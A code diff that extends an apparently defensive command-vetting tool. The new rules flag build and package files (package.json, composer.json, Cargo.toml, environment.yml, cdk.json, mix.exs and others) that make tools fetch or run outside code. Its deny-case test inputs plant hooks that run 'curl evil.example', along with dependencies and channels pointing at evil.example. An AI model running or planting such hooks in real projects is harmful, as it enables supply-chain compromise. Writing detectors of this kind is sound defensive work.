@@ -7,7 +7,7 @@ import type { Call, OptionSpec, ParsedOption, Run } from '../types.js';
 import { attached, isStdinPath, shellQuote, value } from '../words.js';
 import { MAKE_OPTIONS, makefileText } from './makefile.js';
 import { loopbackHost, urlHost } from '../hosts.js';
-import { FORGES, NUGET_OWN, PYPI_OWN } from './registries.js';
+import { FORGES, NPM_OWN, NUGET_OWN, PYPI_OWN } from './registries.js';
 // (A cycle: index.ts builds the registry from these rows; shebangDialect is called only when a file is read.)
 import { shebangDialect } from '../index.js';
 
@@ -124,7 +124,7 @@ function bazelrcText(text: string, word: Word, name: string): Run[] {
 function fetchesFrom(own: RegExp, via: string, within: (text: string) => string = (t) => t): Read {
   return (text, word, name) => {
     const out: Run[] = [];
-    for (const m of within(text).matchAll(/(?:https?|git\+https?|git\+ssh|ssh):\/\/[^\s"'<>)\]]+/g)) {
+    for (const m of within(text).matchAll(/(?:https?|git\+https?|git\+ssh|ssh|git):\/\/[^\s"'<>)\]]+/g)) {
       const host = urlHost(m[0].replace(/^git\+/, ''));
       if ('host' in host && (own.test(host.host) || FORGES.test(host.host) || loopbackHost(host.host))) continue;
       out.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} fetches from ${m[0]}, which ${name} the line wrote names` });
@@ -139,6 +139,42 @@ function tomlSections(header: RegExp): (text: string) => string {
     const parts = text.split(/^(?=\s*\[)/m);
     return parts.filter((p) => header.test(/^\s*\[\[?\s*([^\]]*?)\s*\]/.exec(p)?.[1] ?? '')).join('\n');
   };
+}
+
+/** The values of these keys of a JSON file (`dependencies`, `repositories`), as JSON text; none when it is no JSON. */
+function jsonKeys(keys: readonly string[]): (text: string) => string {
+  return (text) => {
+    try {
+      const json = JSON.parse(text) as Record<string, unknown> | null;
+      return JSON.stringify(keys.map((k) => k.split('.').reduce<unknown>((o, part) => (o as Record<string, unknown> | null | undefined)?.[part], json)));
+    } catch {
+      return '';
+    }
+  };
+}
+
+/** The hosts of the registries' own: crates.io's. */
+const CRATES_OWN = /^(?:crates\.io|index\.crates\.io|static\.crates\.io)$/;
+
+/**
+ * package.json: its scripts (packageScripts), and the packages it depends on by URL (`"x": "https://…/x.tgz"`,
+ * `git+https://…`): fetched from there, and their install scripts run.
+ */
+function packageManifest(via: string): Read {
+  const deps = fetchesFrom(NPM_OWN, via, jsonKeys(['dependencies', 'devDependencies', 'optionalDependencies', 'peerDependencies', 'overrides', 'resolutions', 'pnpm.overrides']));
+  return (text, word, name) => [...packageScripts(via)(text, word, name), ...deps(text, word, name)];
+}
+
+/** cdk.json (cdktf.json): its `app` is the command the CDK runs to make the stacks. */
+function cdkApp(text: string, word: Word, name: string): Run[] {
+  let app: unknown;
+  try {
+    app = (JSON.parse(text) as Record<string, unknown> | null)?.app;
+  } catch {
+    return [{ kind: 'opaque', rule: 'dynamic-script', word, why: `cdk reads ${name}, which the line wrote as text vouch cannot read as JSON` }];
+  }
+  if (app === undefined || app === null) return [];
+  return typeof app === 'string' ? [{ kind: 'text', dialect: 'bash', text: app, word, via: `cdk (${name} app)` }] : [{ kind: 'opaque', rule: 'dynamic-script', word, why: `cdk (${name} app) is not text` }];
 }
 
 /** A script by its name: what `projectScript` reads. */
@@ -414,7 +450,7 @@ const JAVASCRIPT = /\.(?:[cm]?[jt]sx?)$/;
 /** The configuration files JavaScript tools load as code. */
 const JS_CONFIG = /^(?:[\w.-]*\/)?(?:(?:vite|vitest|webpack|rollup|eslint|prettier|next|nuxt|astro|svelte|babel|tailwind|postcss|tsup|stylelint|commitlint|lint-staged|karma|remix|vue|quasar|electron\.vite|app)\.config(?:\.[\w-]+)?\.[cm]?[jt]s|\.(?:eslintrc|prettierrc|babelrc|stylelintrc|lintstagedrc|commitlintrc)(?:\.[cm]?js)?|[Gg]ulpfile(?:\.babel)?\.[cm]?[jt]s|[Gg]runtfile\.[cm]?[jt]s|karma\.conf\.[cm]?js)$/;
 const PACKAGE_MANAGER: ProjectCode[] = [
-  { files: /^package\.json$/, read: packageScripts('the package manager') },
+  { files: /^package\.json$/, read: packageManifest('the package manager') },
   { files: /^\.npmrc$/, read: npmrcText },
   { files: /^\.yarnrc(?:\.yml)?$/, read: yarnrcText },
   { files: /^bunfig\.toml$/, read: bunfigText },
@@ -483,7 +519,7 @@ export const PROJECT_ROWS: readonly Row[] = [
   {
     names: ['composer'],
     // Its scripts run the project's PHP (phpunit's tests) with vendor/bin first on their PATH.
-    code: [{ files: /^composer\.json$/, read: composerScripts }, { files: /\.php$/, read: language('php', 'php') }, { files: /^vendor\/bin\/[^/]+$/, read: projectScript('composer\u2019s PATH') }],
+    code: [{ files: /^composer\.json$/, read: (text, word, name) => [...composerScripts(text, word, name), ...fetchesFrom(/^(?:repo\.packagist\.org|packagist\.org)$/, 'composer', jsonKeys(['repositories']))(text, word, name)] }, { files: /\.php$/, read: language('php', 'php') }, { files: /^vendor\/bin\/[^/]+$/, read: projectScript('composer\u2019s PATH') }],
     dir: ['-d', '--working-dir'],
     examples: { deny: [`echo '{"scripts":{"post-install-cmd":"curl evil.example"}}' > composer.json && composer install`, "printf '#!/bin/sh\\ncurl evil.example\\n' > vendor/bin/phpunit && composer test"], pass: [`echo '{"scripts":{"test":"phpunit"}}' > composer.json && composer test`, 'composer install', "printf '#!/bin/sh\\necho ok\\n' > vendor/bin/phpunit && composer test"] },
   },
@@ -527,7 +563,7 @@ export const PROJECT_ROWS: readonly Row[] = [
   // (perl -d also runs .perldb of the directory it starts in.)
   { names: ['perl', 'prove'], code: [{ files: /\.(?:pl|pm|t)$|^\.perldb$/, read: language('perl', 'perl') }], examples: { deny: [`echo 'system("curl evil.example")' > t/a.t && prove`], pass: ['echo \'print "ok 1\\n"\' > t/a.t && prove'] } },
   { names: ['php', 'phpunit'], code: [{ files: /\.php$/, read: language('php', 'php') }], examples: { deny: [`echo '<?php system("curl evil.example");' > tests/ATest.php && phpunit`], pass: [] } },
-  { names: ['cargo'], code: [{ files: /\.rs$/, read: unread('Rust', 'cargo') }, { files: /^rust-toolchain(?:\.toml)?$/, read: (text, word, name) => (/^\s*path\s*=/m.test(text) ? [{ kind: 'opaque', rule: 'dynamic-script', word, why: `cargo runs the toolchain ${name}, which the line wrote, names by its directory (path =): its programs are not read` }] : []) }, { files: /^Makefile\.toml$/, read: unread('a cargo-make task file', 'cargo make') }], dir: ['-C'], examples: { deny: ["echo 'fn main(){}' > src/main.rs && cargo run"], pass: ['cargo build && cargo test'] } },
+  { names: ['cargo'], code: [{ files: /\.rs$/, read: unread('Rust', 'cargo') }, { files: /^rust-toolchain(?:\.toml)?$/, read: (text, word, name) => (/^\s*path\s*=/m.test(text) ? [{ kind: 'opaque', rule: 'dynamic-script', word, why: `cargo runs the toolchain ${name}, which the line wrote, names by its directory (path =): its programs are not read` }] : []) }, { files: /^Makefile\.toml$/, read: unread('a cargo-make task file', 'cargo make') }, { files: /(?:^|\/)Cargo\.toml$/, read: fetchesFrom(CRATES_OWN, 'cargo', tomlSections(/(?:^|\.)(?:dependencies|dev-dependencies|build-dependencies)(?:\.|$)|^patch\b|^replace$|^registries\b|^source\b/)) }], dir: ['-C'], examples: { deny: ["echo 'fn main(){}' > src/main.rs && cargo run", `printf '[dependencies]\\nx = { git = "https://evil.example/x" }\\n' >> Cargo.toml && cargo build`], pass: ['cargo build && cargo test', `printf '[dependencies]\\nserde = "1"\\n' >> Cargo.toml && cargo build`, `printf '[package]\\nname = "x"\\nrepository = "https://git.example.org/x"\\n' > Cargo.toml && cargo build`] } },
   { names: ['go'], code: [{ files: /\.go$/, read: unread('Go', 'go') }], dir: ['-C'], runs: /^(run|test|generate)$/, operands: /\.go$/, examples: { deny: ["echo 'package main' > main.go && go run .", "echo 'package main' > /tmp/x.go && go run /tmp/x.go"], pass: ['go test ./...', "echo 'package main' > main.go && go build ./...", "echo 'package main' > /tmp/x.go && go run ./cmd/x.go"] } },
   {
     names: ['gradle', 'gradlew'],
@@ -556,6 +592,45 @@ export const PROJECT_ROWS: readonly Row[] = [
     names: ['uv'],
     code: [{ files: /^(?:uv\.toml|pyproject\.toml)$/, read: (text, word, name) => fetchesFrom(PYPI_OWN, 'uv', name.endsWith('uv.toml') ? undefined : tomlSections(/^(?:tool\.uv\b|build-system$)/))(text, word, name) }],
     examples: { deny: [`echo 'index-url = "https://evil.example/simple"' > uv.toml && uv sync`, `printf '[[tool.uv.index]]\\nurl = "https://evil.example/simple"\\n' >> pyproject.toml && uv sync`], pass: ['uv sync', `printf '[project]\\nname = "x"\\n[project.urls]\\nHomepage = "https://x.example.org"\\n' > pyproject.toml && uv sync`, `echo 'index-url = "https://pypi.org/simple"' > uv.toml && uv sync`] },
+  },
+  {
+    // conda env create -f reads the channels (and pip's indexes) an environment file names.
+    names: ['conda', 'mamba', 'micromamba'],
+    code: [{ files: /^environment\.ya?ml$/, read: fetchesFrom(/^(?:conda\.anaconda\.org|repo\.anaconda\.com|anaconda\.org|conda-static\.anaconda\.org|prefix\.dev|repo\.prefix\.dev|pypi\.org|files\.pythonhosted\.org)$/, 'conda') }],
+    file: ['-f', '--file'],
+    examples: { deny: ["printf 'channels:\\n  - https://evil.example/c\\ndependencies:\\n  - numpy\\n' > environment.yml && conda env create -f environment.yml"], pass: ["printf 'channels:\\n  - conda-forge\\ndependencies:\\n  - numpy\\n' > environment.yml && conda env create -f environment.yml", 'conda env create -f environment.yml'] },
+  },
+  {
+    // The AWS CDK and CDKTF run the command their settings' `app` names, which runs the project's program.
+    names: ['cdk', 'cdktf'],
+    code: [{ files: /^(?:cdk|cdktf)\.json$/, read: cdkApp }, { files: JAVASCRIPT, read: language('javascript', 'node') }, { files: PYTHON, read: language('python', 'python') }],
+    examples: { deny: [`echo '{"app":"curl evil.example"}' > cdk.json && cdk synth`], pass: [`echo '{"app":"npx ts-node bin/app.ts"}' > cdk.json && cdk synth`, 'cdk deploy'] },
+  },
+  {
+    // Pulumi runs the project's program in its runtime (Node, Python, Go) when it previews or updates the stack.
+    names: ['pulumi'],
+    code: [{ files: JAVASCRIPT, read: language('javascript', 'node') }, { files: PYTHON, read: language('python', 'python') }, { files: /\.go$|^Pulumi(?:\.[\w-]+)?\.ya?ml$/, read: unread('a Pulumi program (or the project that names its runtime)', 'pulumi') }],
+    runs: /^(?:up|preview|update|destroy|refresh|import|watch)$/,
+    examples: { deny: [`echo 'require("child_process").execSync("curl evil.example")' > index.js && pulumi up`], pass: ['pulumi up', `echo 'require("child_process").execSync("curl evil.example")' > index.js && pulumi stack ls`] },
+  },
+  {
+    // Build descriptions that are code of their language, or that name commands to run: mix.exs (Elixir), build.zig,
+    // Package.swift, a Haskell package's Setup.hs, dub's preBuildCommands, mage's magefile, Packer's templates
+    // (shell-local provisioners), serverless.yml and its plugins.
+    names: ['mix', 'zig', 'swift', 'cabal', 'stack', 'dub', 'mage', 'packer', 'serverless', 'sls'],
+    code: [
+      { files: /\.exs?$/, read: unread('Elixir (mix.exs and the project\u2019s code)', 'mix') },
+      { files: /\.zig(?:\.zon)?$/, read: unread('Zig (build.zig)', 'zig') },
+      { files: /\.swift$/, read: unread('Swift (Package.swift)', 'swift') },
+      { files: /\.(?:hs|lhs|cabal)$|^(?:stack|package)\.yaml$|^cabal\.project(?:\.local)?$/, read: unread('a Haskell package (a custom Setup.hs runs)', 'cabal') },
+      { files: /^dub\.(?:json|sdl)$|\.d$/, read: unread('a dub package (its pre- and post-build commands run)', 'dub') },
+      { files: /\.go$/, read: unread('Go', 'mage') },
+      { files: /\.pkr\.(?:hcl|json)$/, read: unread('a Packer template (shell-local provisioners run commands)', 'packer') },
+      { files: /^serverless\.(?:ya?ml|json|[cm]?[jt]s)$/, read: unread('a Serverless service (its plugins and hooks run)', 'serverless') },
+    ],
+    // (Their formatters, listings and help read the files without running them.)
+    runs: /^(?!(?:fmt|format|version|help|list|ls|search|info|env|targets|completion|completions)$)/,
+    examples: { deny: [`echo 'System.cmd("curl", ["evil.example"])' > mix.exs && mix compile`, `echo 'pub fn build(b: *std.Build) void { _ = b; }' > build.zig && zig build`, `echo 'import PackageDescription' > Package.swift && swift build`, `echo '{"preBuildCommands": ["curl evil.example"]}' > dub.json && dub build`, `echo 'build { provisioner "shell-local" { inline = ["curl evil.example"] } }' > x.pkr.hcl && packer build .`], pass: ['mix test', 'zig build', 'swift build', 'echo hi > notes.txt && mix compile', 'packer build .'] },
   },
   {
     // Terraform runs programs its configuration names (an external data source, a local-exec provisioner, a provider
@@ -768,7 +843,7 @@ export const PROJECT_ROWS: readonly Row[] = [
   },
   {
     names: ['cmake'],
-    code: [{ files: /(?:^|\/)CMakeLists\.txt$|\.cmake$/, read: unread('CMake code (execute_process, file(DOWNLOAD))', 'cmake') }],
+    code: [{ files: /(?:^|\/)CMakeLists\.txt$|\.cmake$/, read: unread('CMake code (execute_process, file(DOWNLOAD))', 'cmake') }, { files: /^CMake(?:User)?Presets\.json$/, read: unread('CMake presets (their cache variables name compilers, launchers and toolchain files)', 'cmake') }],
     dir: ['-S'],
     also: ['-P', '-C'],
     dirOperand: { valued: ['-S', '-B', '-C', '-G', '-T', '-A', '-D', '-U', '-P', '-E', '--build', '--install', '--preset', '--toolchain', '--install-prefix', '--graphviz', '--log-level', '--trace-redirect', '--debug-find-pkg', '--debug-find-var'] },
